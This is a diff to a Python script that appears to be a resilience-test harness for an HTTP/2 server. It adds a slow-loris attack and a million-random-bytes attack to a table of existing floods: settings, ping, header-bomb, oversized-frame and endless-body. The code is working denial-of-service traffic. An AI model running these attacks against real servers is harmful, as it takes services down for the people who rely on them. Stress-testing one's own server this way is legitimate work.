@@ -6,6 +6,7 @@ import random
 import socket
 import struct
 import sys
+import time
 
 attack, port, bearer, token = sys.argv[1:]
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
@@ -66,6 +67,19 @@ def slow_reader():
             pass
 
 
+def slow_loris():
+    """Many connections that begin a request and never end it."""
+    peers = [connect() for _ in range(200)]
+    part = PREFACE + frame(4, 0, 0) + frame(1, 4, 1, request())[:60]
+    for step in range(0, len(part), 6):
+        for peer in peers:
+            try:
+                peer.sendall(part[step:step + 6])
+            except OSError:
+                pass
+        time.sleep(0.1)
+
+
 random.seed(7)
 opening = PREFACE + frame(4, 0, 0)
 attacks = {
@@ -75,6 +89,8 @@ attacks = {
     "header-bomb": lambda: send(opening + frame(1, 4, 1, request(x="y" * 12000)) + b"".join(frame(9, 0, 1, b"\0\x01a" + b"\x7f\x81\x5d" + b"z" * 12000) for _ in range(2000))),
     "oversized-frame": lambda: send(opening + b"\xff\xff\xff\x00\x00" + b"\0\0\0\x01" + b"x" * 200000),
     "slow-reader": slow_reader,
+    "slow-loris": slow_loris,
+    "million-bytes": lambda: send(random.randbytes(1_000_000)),
     "settings-flood": lambda: send(opening + frame(4, 0, 0) * 100000),
     "ping-flood": lambda: send(opening + frame(6, 0, 0, b"12345678") * 100000),
     "endless-body": lambda: send(opening + frame(1, 4, 1, request()) + frame(0, 0, 1, b"x" * 16000) * 500),
